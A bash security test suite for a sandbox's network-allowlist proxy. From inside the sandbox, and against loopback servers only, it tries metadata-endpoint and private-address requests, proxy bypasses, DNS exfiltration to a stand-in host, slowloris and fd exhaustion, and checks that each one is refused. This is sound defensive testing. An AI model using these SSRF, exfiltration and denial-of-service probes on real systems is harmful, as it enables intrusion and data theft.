#!/usr/bin/env bash
# The network allowlist (docs/profiles.md, "network"; sandbox/daemon/proxy.c),
# attacked from inside the sandbox and checked host-side in the audit log.
# Offline: the only servers are the HTTP and HTTPS servers this script
# starts on the host's loopback (tests/security/net_servers.py); names are
# pinned with the daemon's --resolve.
#
#   pkg.test, *.pkg.test  -> 127.0.0.1 (allowed by name, and the address by
#                            an explicit 127.0.0.1 rule)
#   evil.test             -> 127.0.0.1 (allowed by name only: must be refused)
#
# Root and rootless (mini_e2e_test).  The daemon runs with --frame-timeout 2,
# which also bounds how long the proxy waits for a request head.
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
mini_test_init "$@"

have python3 || skip_all "python3 is not installed"
have openssl || skip_all "openssl is not installed"
have curl || skip_all "curl is not installed"

# ---- the servers -------------------------------------------------------

SRV=$T/srv
mkdir -p "$SRV/www"
echo "plain-$RUN_TAG" >"$SRV/www/hello.txt"
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=pkg.test" \
    -addext "subjectAltName=DNS:pkg.test,DNS:evil.test,DNS:mirror.pkg.test" \
    -keyout "$SRV/key.pem" -out "$SRV/cert.pem" >/dev/null 2>&1 || skip_all "openssl cannot make a certificate"
cp "$SRV/cert.pem" "$WS/ca.pem"
chmod 0644 "$WS/ca.pem"
python3 "$MINI_SOURCE_DIR/tests/security/net_servers.py" "$SRV/www" "$SRV/cert.pem" "$SRV/key.pem" "$SRV/ports" \
    >"$T/servers.log" 2>&1 &
BG_PIDS+=($!)
wait_until 10 test -s "$SRV/ports" || { fail "test servers start" "$(cat "$T/servers.log")"; finish; }
read -r HP SP SINK <"$SRV/ports"
log "# HTTP on 127.0.0.1:$HP, HTTPS on 127.0.0.1:$SP"

AUDIT=$T/audit.log
start_daemon --audit-log "$AUDIT" --frame-timeout 2 \
    --resolve pkg.test:127.0.0.1 --resolve mirror.pkg.test:127.0.0.1 --resolve evil.test:127.0.0.1

# A strict profile with an allowlist; each check below may add limits.
profile() { # NAME LIMITS-JSON
    cat >"$T/$1.json" <<EOF
{"name": "$1",
 "network": {"allow": ["pkg.test", "*.pkg.test", "127.0.0.1"], "deny": ["blocked.pkg.test"]},
 "limits": {$2}}
EOF
    chmod 0644 "$T/$1.json"
}
profile allow '"net_connections": 128'
cat >"$T/pinned.json" <<EOF
{"name": "pinned", "network": {"allow": ["viaprofile.test", "127.0.0.1"], "resolve": ["viaprofile.test:127.0.0.1"]}}
EOF
chmod 0644 "$T/pinned.json"
profile small '"net_in_mb": 1'
profile up '"net_out_mb": 1'
profile two '"net_connections": 2'
SBX_PROFILE=$T/allow.json

audit_has() { # JSON-FRAGMENT...: some net line of the audit log holds them all
    python3 - "$AUDIT" "$@" <<'EOF'
import json, sys
want = sys.argv[2:]
for line in open(sys.argv[1]):
    o = json.loads(line)
    if o.get("event") != "net":
        continue
    if all(w in json.dumps(o) for w in want):
        sys.exit(0)
sys.exit(1)
EOF
}

# ---- allowed names, through the proxy ----------------------------------

expect_out "curl: plain HTTP by an allowed name" "plain-$RUN_TAG" \
    sbx -- "curl -sS -m 20 http://pkg.test:$HP/hello.txt"
expect_out "curl: HTTPS through CONNECT, certificate checked" "plain-$RUN_TAG" \
    sbx -- "curl -sS -m 20 --cacert $WS/ca.pem https://pkg.test:$SP/hello.txt"
expect_out "curl: a *.pkg.test name" "plain-$RUN_TAG" \
    sbx -- "curl -sS -m 20 --cacert $WS/ca.pem https://mirror.pkg.test:$SP/hello.txt"
expect_out "python urllib: HTTP and HTTPS through the proxy variables" "urllib-ok plain-$RUN_TAG plain-$RUN_TAG" \
    sbx -- python3 -c "
import ssl, urllib.request
ctx = ssl.create_default_context(cafile='$WS/ca.pem')
a = urllib.request.urlopen('http://pkg.test:$HP/hello.txt', timeout=20).read().decode().strip()
b = urllib.request.urlopen('https://pkg.test:$SP/hello.txt', timeout=20, context=ctx).read().decode().strip()
print('urllib-ok', a, b)"
expect_out "a name pinned by the profile's network.resolve" "plain-$RUN_TAG" \
    sbx --profile "$T/pinned.json" -- "curl -sS -m 20 http://viaprofile.test:$HP/hello.txt"
check "audit: the allowed connections are logged with their address" \
    audit_has '"host": "pkg.test"' '"verdict": "allowed"' '"address": "127.0.0.1"' '"method": "CONNECT"'
expect_out "the proxy variables are set for the command" "HTTPS_PROXY=http://127.0.0.1:3128" \
    sbx -- "env | sort"

# ---- refused ------------------------------------------------------------

expect_out "a name not in the allowlist gets 403 with the reason" "403 not in the allowlist" \
    sbx -- "curl -s -m 20 -o /dev/null -w '%{http_code} ' http://other.test:$HP/; curl -s -m 20 http://other.test:$HP/ | grep -o 'not in the allowlist'"
check "audit: the refused name is logged" audit_has '"host": "other.test"' '"verdict": "refused"' '"status": 403'
expect_out "CONNECT to a name not in the allowlist: 403" "CONNECT tunnel failed, response 403" \
    sbx -- "curl -sS -m 20 https://other.test:$SP/ 2>&1; true"
expect_out "a deny entry wins over *.pkg.test" "denied by the profile's network.deny" \
    sbx -- "curl -s -m 20 http://blocked.pkg.test:$HP/"
expect_out "an allowed name resolving to loopback, no address rule: refused" "a loopback address" \
    sbx --profile strict --allow-host evil.test -- "curl -s -m 20 http://evil.test:$HP/hello.txt"
check "audit: the loopback resolution is logged as refused" \
    audit_has '"host": "evil.test"' '"verdict": "refused"' 'loopback'
expect_out "a name the resolver process answers (localhost, from /etc/hosts): loopback, refused" \
    "localhost resolves to 127.0.0.1, a loopback address" \
    sbx --profile strict --allow-host localhost -- "curl -s -m 20 --noproxy '' http://localhost:$HP/"
expect_out "the cloud metadata address: refused" "link-local" \
    sbx --profile strict --allow-host '*' -- "curl -s -m 20 http://169.254.169.254/latest/meta-data/"
expect_out "a private address literal: refused" "a private address" \
    sbx --profile strict --allow-host '*' -- "curl -s -m 20 http://10.1.2.3:$HP/"
expect_out "IPv4-mapped IPv6 loopback: refused" "a loopback address" \
    sbx --profile strict --allow-host '*' -- "curl -s -m 20 -x http://127.0.0.1:3128 'http://[::ffff:127.0.0.1]:$HP/'"
expect_out "IPv6 loopback: refused" "a loopback address" \
    sbx --profile strict --allow-host '*' -- "curl -s -m 20 'http://[::1]:$HP/'"
expect_out "a port the entry does not name: refused" "not in the allowlist" \
    sbx --profile strict --allow-host "pkg.test:1" --allow-host 127.0.0.1 -- "curl -s -m 20 http://pkg.test:$HP/"
expect_out "an https:// URL as a plain request: 400" "go through CONNECT" \
    sbx -- "printf 'GET https://pkg.test:$SP/ HTTP/1.1\r\nHost: pkg.test\r\n\r\n' | python3 -c '
import socket, sys
s = socket.create_connection((\"127.0.0.1\", 3128)); s.sendall(sys.stdin.buffer.read()); print(s.recv(4096).decode())'"

# ---- around the proxy ---------------------------------------------------

expect_out "curl --noproxy '*' to a public address fails at once" "ENETUNREACH" \
    sbx -- "curl -sS -m 20 --noproxy '*' http://93.184.216.34/ 2>&1; python3 -c '
import errno, socket
try:
    socket.create_connection((\"1.1.1.1\", 443), timeout=20)
    print(\"CONNECTED\")
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno))'"
expect_out "a direct connection to the host's servers: nothing listens there" "ECONNREFUSED" \
    sbx -- "python3 -c '
import errno, socket
try:
    socket.create_connection((\"127.0.0.1\", $HP), timeout=20); print(\"CONNECTED\")
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno))'"
expect_out "DNS: no resolver to reach from inside" "gaierror ENETUNREACH" \
    sbx -- "python3 -c '
import errno, socket
try:
    socket.getaddrinfo(\"exfil-$RUN_TAG.example.com\", 80); print(\"RESOLVED\", end=\" \")
except socket.gaierror:
    print(\"gaierror\", end=\" \")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b\"exfil-$RUN_TAG\", (\"8.8.8.8\", 53)); print(\"SENT\")
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno))'"
expect_out "the proxy's port cannot be taken over from inside" "EADDRINUSE" \
    sbx -- "python3 -c '
import errno, socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
try:
    s.bind((\"127.0.0.1\", 3128)); print(\"BOUND\")
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno))'"

# ---- limits -------------------------------------------------------------

expect_out "net_in_mb: a 3 MB download is cut near 1 MB, and the next refused" "cut 403" \
    sbx --profile "$T/small.json" -- "python3 -c '
import urllib.request, urllib.error
n = 0
try:
    r = urllib.request.urlopen(\"http://pkg.test:$HP/bytes/3000000\", timeout=20)
    while True:
        b = r.read(65536)
        if not b: break
        n += len(b)
except Exception:
    pass
print(\"cut\" if 0 < n < 2000000 else \"got %d\" % n, end=\" \")
try:
    urllib.request.urlopen(\"http://pkg.test:$HP/hello.txt\", timeout=20); print(\"ALLOWED\")
except urllib.error.HTTPError as e:
    print(e.code)'"
check "audit: the cut connection says why" audit_has '"profile": "small"' 'net_in_mb'
expect_out "net_out_mb: an upload is cut near 1 MB, and the next tunnel refused" "cut 403" \
    sbx --profile "$T/up.json" -- "python3 -c '
import socket
s = socket.create_connection((\"127.0.0.1\", 3128), timeout=20)
s.sendall(b\"CONNECT pkg.test:$SINK HTTP/1.1\\r\\n\\r\\n\")
assert b\" 200 \" in s.recv(4096)
sent = 0
try:
    for i in range(256):
        s.sendall(b\"u\" * 65536)
        sent += 65536
except OSError:
    pass
print(\"cut\" if sent < 16 << 20 else \"sent all\", end=\" \")
t = socket.create_connection((\"127.0.0.1\", 3128), timeout=20)
t.sendall(b\"CONNECT pkg.test:$SINK HTTP/1.1\\r\\n\\r\\n\")
print(t.recv(4096).split(b\" \")[1].decode())'"
check "audit: the cut upload says why" audit_has '"profile": "up"' 'net_out_mb'
CONNS_PY='
import socket, sys
want = int(sys.argv[1]); port = int(sys.argv[2])
socks, codes = [], []
for i in range(want):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(("CONNECT pkg.test:%d HTTP/1.1\r\nHost: pkg.test\r\n\r\n" % port).encode())
    codes.append(s.recv(4096).split(b" ")[1].decode())
    socks.append(s)
print(" ".join(codes))'
printf '%s\n' "$CONNS_PY" >"$WS/conns.py"
chmod 0644 "$WS/conns.py"
expect_out "net_connections: the third connection at once gets 429" "200 200 429" \
    sbx --profile "$T/two.json" -- python3 "$WS/conns.py" 3 "$HP"

# ---- robustness ---------------------------------------------------------

expect_out "garbage gets 400 and the proxy goes on" "400 plain-$RUN_TAG" \
    sbx -- "head -c 3000 /dev/urandom | python3 -c '
import socket, sys
s = socket.create_connection((\"127.0.0.1\", 3128)); s.sendall(sys.stdin.buffer.read() + b\"\r\n\r\n\")
print(s.recv(4096).split(b\" \")[1].decode(), end=\" \")'; curl -sS -m 20 http://pkg.test:$HP/hello.txt"
expect_out "a slowloris is cut off (408) while others are served" "served 408" \
    sbx -- "python3 -c '
import socket, time, urllib.request
s = socket.create_connection((\"127.0.0.1\", 3128))
s.sendall(b\"GET http://pkg.test:$HP/ HTTP/1.1\r\n\")
ok = urllib.request.urlopen(\"http://pkg.test:$HP/hello.txt\", timeout=20).read()
print(\"served\" if ok else \"not served\", end=\" \")
for i in range(20):
    try:
        s.sendall(b\"X\")
    except OSError:
        break
    time.sleep(0.25)
s.settimeout(20)
print(s.recv(4096).split(b\" \")[1].decode())'"
CONC_PY='
import socket, ssl, sys, threading, urllib.request
port, sport, ca = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
ctx = ssl.create_default_context(cafile=ca)
ok = []
def one(i):
    url = ("https://pkg.test:%d/bytes/%d" % (sport, 10000 + i)) if i % 2 else ("http://pkg.test:%d/bytes/%d" % (port, 10000 + i))
    try:
        body = urllib.request.urlopen(url, timeout=60, context=ctx if i % 2 else None).read()
        if len(body) == 10000 + i:
            ok.append(i)
    except Exception as e:
        print("conn %d: %s" % (i, e))
ts = [threading.Thread(target=one, args=(i,)) for i in range(100)]
for t in ts: t.start()
for t in ts: t.join()
print("ok %d/100" % len(ok))'
printf '%s\n' "$CONC_PY" >"$WS/conc.py"
chmod 0644 "$WS/conc.py"
expect_out "100 concurrent connections (HTTP and HTTPS) all served" "ok 100/100" \
    sbx -- python3 "$WS/conc.py" "$HP" "$SP" "$WS/ca.pem"
expect_out "the daemon still serves after all that" "plain-$RUN_TAG" \
    sbx -- "curl -sS -m 20 http://pkg.test:$HP/hello.txt"

# ---- mini's environment.allow_hosts --------------------------------------

if [[ -x $MINI_BIN/mini ]]; then
    . "$MINI_SOURCE_DIR/tests/integration/agent_lib.sh"
    agent_init
    TRAJ=$T/allow.traj.json
    mrun -y --exit-immediately -c mini --model-class deterministic -l 0 --sandbox strict --workspace "$WS" -t task \
        -o "$TRAJ" -c "environment.socket=$SOCK" -c 'environment.allow_hosts=["pkg.test", "127.0.0.1"]' \
        -c "model.outputs=$(json_strs "$(block "echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT; curl -sS -m 20 http://pkg.test:$HP/hello.txt")")"
    if [[ $RC == 0 ]] && grep -q "plain-$RUN_TAG" "$TRAJ"; then
        pass "mini: environment.allow_hosts reaches the sandbox's allowlist"
    else
        fail "mini: environment.allow_hosts reaches the sandbox's allowlist" "$(head -c 2000 "$TRAJ" 2>/dev/null)"
    fi
fi

# ---- configuration errors, and what check says ---------------------------

run bounded "$MINI_BIN/mini-sandbox" check --profile "$T/allow.json"
if contains "$OUT" "network allowlist: an HTTP proxy on 127.0.0.1:3128" && contains "$OUT" "fails at once (ENETUNREACH)"
then pass "mini-sandbox check describes the allowlist and the direct path"
else fail "mini-sandbox check describes the allowlist and the direct path"; fi

run sbx --profile permissive --allow-host pkg.test -- true
if [[ $RC == 125 ]] && contains "$ERR" 'network is "host"'; then pass "--allow-host on a host-network profile: a clear error"
else fail "--allow-host on a host-network profile: a clear error" "expected 125 and the reason"; fi
run sbx --profile strict --allow-host 'pkg..test' -- true
if [[ $RC == 125 ]] && contains "$ERR" 'allow_hosts[0]'; then pass "a malformed entry: a clear error naming it"
else fail "a malformed entry: a clear error naming it" "expected 125 and allow_hosts[0]"; fi
run stop_daemon
check "the daemon stops cleanly (exit 0: no sanitizer report either)" test "$RC" = 0

# ---- a daemon out of file descriptors ------------------------------------

# At most 160 fds (the sandbox inherits that hard limit too): 140 connections at once need more (each holds a socket
# in the daemon, and a tunnel two sockets and two pipes).  Those that cannot
# be served get 503 or wait in the listener's backlog (accept pauses);
# nothing crashes, and once they are gone the proxy serves again.
have prlimit || { skip "out of fds" "prlimit is not installed"; finish; }
DAEMON_WRAPPER="prlimit --nofile=160:160 --" start_daemon --resolve pkg.test:127.0.0.1
FD_PY='
import select, socket, sys, time, urllib.request
port = int(sys.argv[1])
socks = [socket.create_connection(("127.0.0.1", 3128), timeout=20) for i in range(140)]
for s in socks:
    s.sendall(("CONNECT pkg.test:%d HTTP/1.1\r\n\r\n" % port).encode())
codes, left, end = {}, set(socks), time.time() + 3
while left and time.time() < end:
    r, _, _ = select.select(list(left), [], [], max(0, end - time.time()))
    for s in r:
        left.discard(s)
        try:
            c = s.recv(4096).split(b" ")[1].decode()
        except (OSError, IndexError):
            c = "closed"
        codes[c] = codes.get(c, 0) + 1
if left:
    codes["waiting"] = len(left)
for s in socks:
    s.close()
print(sorted(codes.items()), end=" ")
body = urllib.request.urlopen("http://pkg.test:%d/hello.txt" % port, timeout=20).read().decode().strip()
print("after:", body)'
printf '%s\n' "$FD_PY" >"$WS/fds.py"
chmod 0644 "$WS/fds.py"
expect_out "out of fds: the proxy refuses or waits, then serves again" "after: plain-$RUN_TAG" \
    sbx -- python3 "$WS/fds.py" "$HP"
run stop_daemon
check "the fd-starved daemon stops cleanly" test "$RC" = 0
finish
